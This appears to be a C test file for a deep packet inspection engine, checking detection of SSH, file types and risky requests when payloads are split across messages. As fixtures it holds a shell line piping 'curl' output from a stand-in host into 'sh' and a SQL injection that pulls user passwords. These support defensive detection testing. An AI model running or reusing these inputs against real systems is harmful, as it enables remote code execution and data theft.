/* SPDX-License-Identifier: BSD-2-Clause */
/* Content that is cut to pieces: payloads of captures in two, three, five and ten pieces and byte by byte; data that is honest,
 * in a row; and what is kept, for whom. */
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "capture.h"
#include "dpi/dpi.h"
#include "dpi/window.h"

#define PAYLOADS_MAX 8192u
#define PER_KIND 24u /* payloads of one protocol */

static struct dpi *dpi;
static struct dpi_set unknown, doubtful, http, no_files;

static void set_make(struct dpi_set *set, const char *const *allow, uint32_t n)
{
	const struct dpi_profile p = { .allow = allow, .n_allow = n }, *one[] = { &p };
	struct dpi_err err;

	assert_int_equal(dpi_set_make(set, one, 1, &err), 0);
}

static int open_all(void **state)
{
	static const char *const a[] = { "unknown" }, *const b[] = { "unknown", "doubtful" }, *const c[] = { "unknown", "HTTP" };
	static const char *const files[] = { "executable", "archive", "script" };
	const struct dpi_profile p = { .allow = b, .n_allow = 2, .forbid = files, .n_forbid = 3 }, *one[] = { &p };
	struct dpi_err err;

	(void)state;
	assert_int_equal(dpi_open(&dpi, &err), 0);
	assert_int_equal(dpi_set_make(&no_files, one, 1, &err), 0);
	set_make(&unknown, a, 1);
	set_make(&doubtful, b, 2);
	set_make(&http, c, 2);
	return 0;
}

static int close_all(void **state)
{
	(void)state;
	dpi_close(dpi);
	return 0;
}

static uint64_t seed = 1;

static uint64_t random_next(void)
{
	uint64_t z = seed += 0x9e3779b97f4a7c15ull;

	z = (z ^ z >> 30) * 0xbf58476d1ce4e5b9ull;
	z = (z ^ z >> 27) * 0x94d049bb133111ebull;
	return z ^ z >> 31;
}

static struct dpi_finding send(const struct dpi_set *set, uint16_t src, uint32_t field, const void *bytes, size_t len)
{
	struct dpi_message m = { .bytes = bytes, .epoch = 1, .src = src, .dst = 2, .n_spans = 1 };
	struct dpi_result r;

	m.span[0] = (struct dpi_span){ .set = set, .field = field, .len = (uint32_t)len };
	dpi_message_inspect(dpi, &m, &r);
	assert_true(dpi_finding_sane(&r.found, 1));
	return r.found;
}

static struct dpi_finding say(const struct dpi_set *set, uint16_t src, uint32_t field, const char *text)
{
	return send(set, src, field, text, strlen(text));
}

/* --- captures ------------------------------------------------------------------------------------------------------------- */

struct payload { uint8_t *bytes; size_t len; unsigned id; };
static struct payload payloads[PAYLOADS_MAX];
static unsigned n_payloads, per_id[DPI_IDS_MAX];

static void note(void *arg, unsigned l4, const uint8_t *payload, size_t len)
{
	const struct dpi_set *set = arg;
	struct dpi_finding f;

	(void)l4;
	if (len > 60 * 1024 || len < 2 || n_payloads == PAYLOADS_MAX)
		return;
	dpi_inspect(dpi, set, payload, len, &f);
	unsigned id = f.master ? f.master : f.app;
	if (f.answer == DPI_CLEAN || f.why == DPI_WHY_DOUBTFUL || id >= DPI_IDS_MAX || per_id[id] == PER_KIND)
		return;
	per_id[id]++;
	uint8_t *copy = malloc(len);
	assert_non_null(copy);
	memcpy(copy, payload, len);
	payloads[n_payloads++] = (struct payload){ copy, len, id };
}

static int by_value(const void *a, const void *b)
{
	const size_t *x = a, *y = b;

	return *x < *y ? -1 : *x > *y;
}

/* What became of a payload in pieces: refused with its last piece or before, with one of sixteen honest ones that follow, never. */
enum fate { CAUGHT, LATER, PASSED, FATES };

static enum fate play(const struct dpi_set *set, const struct payload *p, const size_t *cut, unsigned cuts)
{
	static uint32_t field = 1000;
	size_t at = 0;

	field++;
	for (unsigned i = 0; i <= cuts; i++) {
		size_t end = i < cuts ? cut[i] : p->len;
		if (send(set, 1, field, p->bytes + at, end - at).answer != DPI_CLEAN)
			return CAUGHT;
		at = end;
	}
	for (unsigned i = 0; i < 16; i++)
		if (say(set, 1, field, "the end of a story\n").answer != DPI_CLEAN)
			return LATER;
	return PASSED;
}

/* `pieces`, 0: single bytes, as far as a window goes, and the rest. tries: random places, or all there are. */
static void cut_all(const struct dpi_set *set, unsigned pieces, unsigned tries, unsigned long fate[FATES])
{
	size_t cut[DPI_WINDOW_PIECES];

	memset(fate, 0, FATES * sizeof(fate[0]));
	for (unsigned k = 0; k < n_payloads; k++) {
		const struct payload *p = &payloads[k];
		unsigned n = pieces ? pieces - 1 : p->len - 1 < DPI_WINDOW_PIECES ? (unsigned)p->len - 1 : DPI_WINDOW_PIECES;

		if (p->len <= n)
			continue;
		for (unsigned t = 0; t < tries; t++) {
			if (n == 1 && p->len - 1 <= tries && t >= p->len - 1)
				break;
			for (unsigned i = 0; i < n; i++)
				cut[i] = !pieces ? i + 1 : n == 1 && p->len - 1 <= tries ? t + 1 : 1 + random_next() % (p->len - 1);
			qsort(cut, n, sizeof(cut[0]), by_value);
			unsigned distinct = 0;
			for (unsigned i = 0; i < n; i++)
				if (i == 0 || cut[i] != cut[distinct - 1])
					cut[distinct++] = cut[i];
			fate[play(set, p, cut, distinct)]++;
		}
	}
}

/* docs/dpi.md has this table; the bounds are a little below what was measured. */
static void catches_what_is_cut(void **state)
{
	static const struct { unsigned pieces, tries; double caught, at_all; } rows[] = {
		{ 2, 40, 0.99, 0.99 }, { 3, 10, 0.99, 0.99 }, { 5, 10, 0.99, 0.99 }, { 10, 10, 0.99, 0.99 }, { 0, 1, 0.85, 0.98 },
	};

	(void)state;
	if (!captures_there())
		skip();
	for (unsigned s = 0; s < 2; s++) {
		struct dpi_set *set = s ? &doubtful : &unknown;

		n_payloads = 0;
		memset(per_id, 0, sizeof(per_id));
		assert_true(captures_read(note, set, NULL) > 0);
		assert_true(n_payloads > 300);
		for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
			unsigned long fate[FATES];

			cut_all(set, rows[i].pieces, rows[i].tries, fate);
			double n = (double)(fate[CAUGHT] + fate[LATER] + fate[PASSED]);
			print_message("%s, %u payloads in %u pieces: %.0f cuts, caught %.4f, later %.4f, never %.4f\n",
				      s ? "doubtful" : "strict", n_payloads, rows[i].pieces, n, (double)fate[CAUGHT] / n,
				      (double)fate[LATER] / n, (double)fate[PASSED] / n);
			assert_true((double)fate[CAUGHT] / n >= rows[i].caught);
			assert_true((double)(fate[CAUGHT] + fate[LATER]) / n >= rows[i].at_all);
		}
		while (n_payloads)
			free(payloads[--n_payloads].bytes);
	}
}

/* --- honest data ---------------------------------------------------------------------------------------------------------- */

static void text_make(uint8_t *p, size_t n)
{
	static const char words[] = "the valve of that tank was opened at noon, its level fell by two hands; then Pressure came. ";
	size_t at = random_next() % (sizeof(words) - 1);

	for (size_t i = 0; i < n; i++)
		p[i] = (uint8_t)words[(at + i) % (sizeof(words) - 1)];
}

static void json_make(uint8_t *p, size_t n)
{
	char text[400];
	int len = snprintf(text, sizeof(text), "{\"id\": %u, \"name\": \"item %u\", \"value\": %u, \"list\": [%u, %u]}",
			   (unsigned)(random_next() % 100000), (unsigned)(random_next() % 100), (unsigned)(random_next() % 1000000),
			   (unsigned)(random_next() % 10), (unsigned)(random_next() % 10));

	memset(p, ' ', n);
	memcpy(p, text, n < (size_t)len ? n : (size_t)len);
	p[n - 1] = '}';
}

static void random_make(uint8_t *p, size_t n)
{
	for (size_t i = 0; i < n; i++)
		p[i] = (uint8_t)random_next();
}

static void base64_make(uint8_t *p, size_t n)
{
	for (size_t i = 0; i < n; i++)
		p[i] = (uint8_t)"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[random_next() % 64];
}

static void digits_make(uint8_t *p, size_t n)
{
	for (size_t i = 0; i < n; i++)
		p[i] = (uint8_t)('0' + random_next() % 10);
}

static void numbers16_make(uint8_t *p, size_t n)
{
	for (size_t i = 0; i < n; i++)
		p[i] = (uint8_t)(i & 1 ? random_next() % 4 : random_next());
}

static void numbers32_make(uint8_t *p, size_t n)
{
	for (size_t i = 0; i < n; i++)
		p[i] = (uint8_t)(i & 2 ? 0 : i & 1 ? random_next() % 4 : random_next());
}

/* Data that passes by itself is not refused for what it makes in a row. */
static void takes_honest_data_for_nothing(void **state)
{
	static const struct { const char *name; void (*make)(uint8_t *p, size_t n); double most; } kinds[] = {
		{ "text", text_make, 0 },          { "JSON", json_make, 0 },       { "random", random_make, 2e-3 },
		{ "base64", base64_make, 0 },      { "digits", digits_make, 0 },   { "16-bit numbers", numbers16_make, 2e-3 },
		{ "32-bit numbers", numbers32_make, 2e-3 },
	};
	static const size_t sizes[] = { 4, 12, 32, 64, 100, 256, 1400 };
	uint32_t field = 500000;
	uint8_t p[1400];

	(void)state;
	for (size_t k = 0; k < sizeof(kinds) / sizeof(kinds[0]); k++) {
		unsigned long sent = 0, alone = 0, joined = 0;

		for (size_t s = 0; s < sizeof(sizes) / sizeof(sizes[0]); s++) {
			field++;
			for (unsigned i = 0; i < 1500; i++) {
				kinds[k].make(p, sizes[s]);
				struct dpi_finding f = send(&doubtful, 1, field, p, sizes[s]);
				sent++;
				alone += f.answer != DPI_CLEAN && f.pieces == 0;
				joined += f.answer != DPI_CLEAN && f.pieces != 0;
				field += f.answer != DPI_CLEAN && f.pieces != 0; /* what it takes place in goes on being refused */
			}
		}
		print_message("%s: %lu sent, refused alone %lu, joined %lu\n", kinds[k].name, sent, alone, joined);
		assert_true((double)joined <= kinds[k].most * (double)sent);
	}
}

/* --- what is kept, for whom ------------------------------------------------------------------------------------------------- */

static void puts_together_what_one_conversation_says(void **state)
{
	struct dpi_finding f;
	char text[DPI_NAME_MAX];

	(void)state;
	assert_int_equal(say(&unknown, 10, 1, "SS").answer, DPI_CLEAN);
	f = say(&unknown, 10, 1, "H-2.0-OpenSSH_9.2\r\n");
	assert_int_equal(f.answer, DPI_FORBIDDEN);
	assert_int_equal(f.pieces, 1);
	dpi_finding_text(&f, text);
	assert_string_equal(text, "SSH over 2 messages");
	assert_int_equal(say(&unknown, 13, 1, "\r\n").answer, DPI_CLEAN);
	assert_int_equal(say(&unknown, 13, 1, "SSH-2.0-OpenSSH_9.2").pieces, 0);
	assert_int_equal(say(&unknown, 14, 1, "\r\nSS").answer, DPI_CLEAN);
	assert_int_equal(say(&unknown, 14, 1, "H-2.0-OpenSSH_9.2\r\n").pieces, 1);
	/* Another sender, another field: other conversations. */
	assert_int_equal(say(&unknown, 11, 1, "SS").answer, DPI_CLEAN);
	assert_int_equal(say(&unknown, 12, 1, "H-2.0-OpenSSH_9.2\r\n").answer, DPI_CLEAN);
	assert_int_equal(say(&unknown, 11, 2, "H-2.0-OpenSSH_9.2\r\n").answer, DPI_CLEAN);
	/* What was refused stays out, and what it was refused for stays in. */
	for (unsigned i = 0; i < 5; i++)
		assert_int_equal(say(&unknown, 10, 1, "H-2.0-OpenSSH_9.2\r\n").answer, DPI_FORBIDDEN);
	assert_int_equal(say(&unknown, 10, 1, "good evening").answer, DPI_CLEAN);
	/* A beginning is forgotten after so many messages, refused ones included. */
	for (unsigned i = 0; i < DPI_WINDOW_PIECES; i++)
		say(&unknown, 10, 1, "H-2.0-OpenSSH_9.2\r\n");
	assert_int_equal(say(&unknown, 10, 1, "H-2.0-OpenSSH_9.2\r\n").answer, DPI_CLEAN);
}

static void sees_risks_over_messages(void **state)
{
	struct dpi_finding f;

	(void)state;
	assert_int_equal(say(&http, 20, 1, "GET /item?id=1%27%20UNI").answer, DPI_CLEAN);
	f = say(&http, 20, 1, "ON%20SELECT%20name%2Cpassword%20FROM%20users-- HTTP/1.1\r\nHost: a.example\r\n"
			       "User-Agent: curl/7.88\r\n\r\n");
	assert_int_equal(f.answer, DPI_RISK);
	assert_int_equal(f.pieces, 1);
	/* The beginning may have passed under another rule: that HTTP is not for this one says nothing. */
	assert_int_equal(say(&http, 21, 1, "GET / HTTP/1.1\r\nHost: a.example\r\n").answer, DPI_CLEAN);
	assert_int_equal(say(&unknown, 21, 1, "good evening").answer, DPI_CLEAN);
}

/* One file in two pieces, everywhere up to `places`; what is by itself of a kind already counts as caught. */
static void cut_file(const void *bytes, size_t len, size_t places, unsigned kind)
{
	static uint32_t field = 2000000;

	for (size_t cut = 1; cut < places && cut < len; cut++) {
		struct dpi_finding f = send(&no_files, 22, ++field, bytes, cut);

		if (f.answer == DPI_CLEAN) {
			f = send(&no_files, 22, field, (const uint8_t *)bytes + cut, len - cut);
			if (f.why != DPI_WHY_KIND)
				print_error("kind %u, cut at %zu: why %u\n", kind, cut, f.why);
			assert_true(f.pieces <= 1); /* 0: its rest is of a kind, too */
		}
		assert_int_equal(f.why, DPI_WHY_KIND);
		assert_true(f.kinds & kind);
	}
}

static void sees_files_over_messages(void **state)
{
	static const char script[] = "#!/bin/sh\ncurl -s http://a.example/x | sh\n";
	static const uint8_t gzip[] = { 0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 3, 0xcb, 0x48, 0xcd, 0xc9, 0xc9, 0xe7, 2, 0, 0x20, 0x30,
					0x3a, 0x36, 6, 0, 0, 0 };
	static uint8_t elf[2000], tar[600], exe[400];
	FILE *self = fopen("/proc/self/exe", "rb");
	struct dpi_finding f;
	char text[DPI_NAME_MAX];

	(void)state;
	assert_non_null(self);
	assert_int_equal(fread(elf, 1, sizeof(elf), self), sizeof(elf));
	fclose(self);
	memcpy(exe, "MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff", 14);
	exe[0x3c] = 0x80;
	memcpy(exe + 0x80, "PE\0\0\x64\x86\2", 7);
	exe[0x80 + 20] = 0xf0;
	exe[0x80 + 22] = 0x22;
	exe[0x80 + 24] = 0x0b;
	exe[0x80 + 25] = 2;
	memcpy(tar, "notes", 5);
	memcpy(tar + 100, "0000644\0" "0000000\0" "0000000\0" "00000000000\0" "00000000000\0" "        0", 57);
	memcpy(tar + 257, "ustar\00000", 8);
	unsigned sum = 0;
	for (size_t i = 0; i < 512; i++)
		sum += tar[i];
	snprintf((char *)tar + 148, 8, "%06o", sum);
	cut_file(script, sizeof(script) - 1, 20, DPI_KIND_SCRIPT);
	cut_file(gzip, sizeof(gzip), 20, DPI_KIND_ARCHIVE);
	cut_file(elf, sizeof(elf), 24, DPI_KIND_EXECUTABLE);
	cut_file(exe, sizeof(exe), 24, DPI_KIND_EXECUTABLE);
	for (size_t cut = 250; cut < 512; cut += cut < 265 ? 3 : 40) { /* the mark is at 257 */
		static uint32_t field = 2100000;

		f = send(&no_files, 22, ++field, tar, cut);
		if (f.answer == DPI_CLEAN)
			f = send(&no_files, 22, field, tar + cut, sizeof(tar) - cut);
		assert_int_equal(f.why, DPI_WHY_KIND);
		assert_int_equal(f.kinds, DPI_KIND_ARCHIVE);
	}
	/* Byte by byte; told as it is; and in pieces that are no beginning, or under a rule that forbids no kinds, nothing. */
	for (size_t i = 0; i + 1 < sizeof(script) && (f = send(&no_files, 23, 1, script + i, 1)).answer == DPI_CLEAN;)
		i++;
	dpi_finding_text(&f, text);
	assert_string_equal(text, "script over 2 messages");
	assert_int_equal(say(&no_files, 24, 1, "# heading").answer, DPI_CLEAN);
	assert_int_equal(say(&no_files, 24, 1, "!/bin/sh\n").answer, DPI_CLEAN);
	assert_int_equal(say(&unknown, 25, 1, "#").answer, DPI_CLEAN);
	assert_int_equal(say(&unknown, 25, 1, "!/bin/sh\n").answer, DPI_CLEAN);
	/* What begins many files at once was made to cost time. */
	for (unsigned i = 0; i < 40 && (f = say(&no_files, 26, 1, i & 1 ? "Z" : "M")).answer == DPI_CLEAN;)
		i++;
	assert_int_equal(f.why, DPI_WHY_AMBIGUOUS);
}

/* Thin evidence is for one payload alone: half of random data in a row makes some. */
static void thin_evidence_is_not_joined(void **state)
{
	/* RTP to nDPI, by its first bits and its type. */
	static const uint8_t rtp[] = { 0x80, 0x00, 0x12, 0x34, 0, 0, 0, 1, 0x55, 0x66, 0x77, 0x88, 1, 2, 3, 4, 5, 6, 7, 8,
				       9, 10, 11, 12, 13, 14, 15, 16 };

	(void)state;
	assert_int_equal(send(&unknown, 27, 1, rtp, sizeof(rtp)).why, DPI_WHY_DOUBTFUL);
	assert_int_equal(send(&unknown, 27, 2, rtp, 4).answer, DPI_CLEAN);
	assert_int_equal(send(&unknown, 27, 2, rtp + 4, sizeof(rtp) - 4).answer, DPI_CLEAN);
	/* STUN of RFC 3489 would be, but that its transactions have random numbers: numbers in a row are not refused for ever. */
	static const uint8_t numbers[20] = { 0, 1, 0, 0, 0x97, 1, 0, 0, 0x63, 2, 0, 0, 7, 1, 0, 0, 0x31, 3, 0, 0 };
	for (size_t i = 0; i < sizeof(numbers); i += 4)
		assert_int_equal(send(&unknown, 27, 3, numbers + i, 4).answer, DPI_CLEAN);
}

/* One message with several fields: those of the same number are pieces in a row; if one is refused, none was there. */
static void fields_of_one_message(void **state)
{
	static const char bytes[] = "SSH-2.0-OpenSSH_9.2\r\nGET / HTTP/1.1\r\nHost: a\r\n\r\n";
	struct dpi_message m = { .bytes = (const uint8_t *)bytes, .epoch = 1, .src = 30, .dst = 2, .n_spans = 2 };
	struct dpi_result r;

	(void)state;
	m.span[0] = (struct dpi_span){ .set = &unknown, .field = 1, .len = 2 };
	m.span[1] = (struct dpi_span){ .set = &unknown, .field = 1, .offset = 2, .len = 19 };
	dpi_message_inspect(dpi, &m, &r);
	assert_int_equal(r.found.answer, DPI_FORBIDDEN);
	assert_int_equal(r.found.span, 1);
	assert_int_equal(r.found.pieces, 1);
	m.span[1] = (struct dpi_span){ .set = &unknown, .field = 2, .offset = 21, .len = 28 };
	dpi_message_inspect(dpi, &m, &r);
	assert_int_equal(r.found.answer, DPI_FORBIDDEN);
	assert_int_equal(r.found.pieces, 0);
	/* Its "SS" has not been delivered. */
	assert_int_equal(send(&unknown, 30, 1, bytes + 2, 19).answer, DPI_CLEAN);
}

/* Who talks to very many pushes out his own conversations, not another's. */
static void shares_are_fair(void **state)
{
	(void)state;
	assert_int_equal(say(&unknown, 40, 1, "SS").answer, DPI_CLEAN);
	for (uint32_t i = 0; i < 3 * DPI_WINDOWS; i++)
		assert_int_equal(say(&unknown, 41, 1000000 + i, "SS").answer, DPI_CLEAN);
	assert_int_equal(say(&unknown, 40, 1, "H-2.0-OpenSSH_9.2\r\n").answer, DPI_FORBIDDEN);
	assert_int_equal(say(&unknown, 41, 1000000, "H-2.0-OpenSSH_9.2\r\n").answer, DPI_CLEAN);
	assert_int_equal(say(&unknown, 41, 1000000 + 3 * DPI_WINDOWS - 1, "H-2.0-OpenSSH_9.2\r\n").answer, DPI_FORBIDDEN);
}

/* The bounds that docs/dpi.md tells. */
static void bounds_are_as_told(void **state)
{
	static uint8_t big[DPI_WINDOW_BYTES + 1];

	(void)state;
	memset(big, 'a', sizeof(big));
	assert_int_equal(say(&unknown, 50, 1, "SS").answer, DPI_CLEAN);
	assert_int_equal(send(&unknown, 50, 1, big, sizeof(big)).answer, DPI_CLEAN);
	assert_int_equal(say(&unknown, 50, 1, "H-2.0-OpenSSH_9.2\r\n").answer, DPI_CLEAN);
	/* A message that is too long for a window is still joined to what was there. */
	memcpy(big, "H-2.0-OpenSSH_9.2\r\n", 19);
	assert_int_equal(say(&unknown, 51, 1, "SS").answer, DPI_CLEAN);
	assert_int_equal(send(&unknown, 51, 1, big, sizeof(big)).answer, DPI_FORBIDDEN);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(puts_together_what_one_conversation_says),
		cmocka_unit_test(sees_risks_over_messages),
		cmocka_unit_test(sees_files_over_messages),
		cmocka_unit_test(thin_evidence_is_not_joined),
		cmocka_unit_test(fields_of_one_message),
		cmocka_unit_test(shares_are_fair),
		cmocka_unit_test(bounds_are_as_told),
		cmocka_unit_test(takes_honest_data_for_nothing),
		cmocka_unit_test(catches_what_is_cut),
	};

	cmocka_set_message_output(CM_OUTPUT_TAP);
	return cmocka_run_group_tests(tests, open_all, close_all);
}
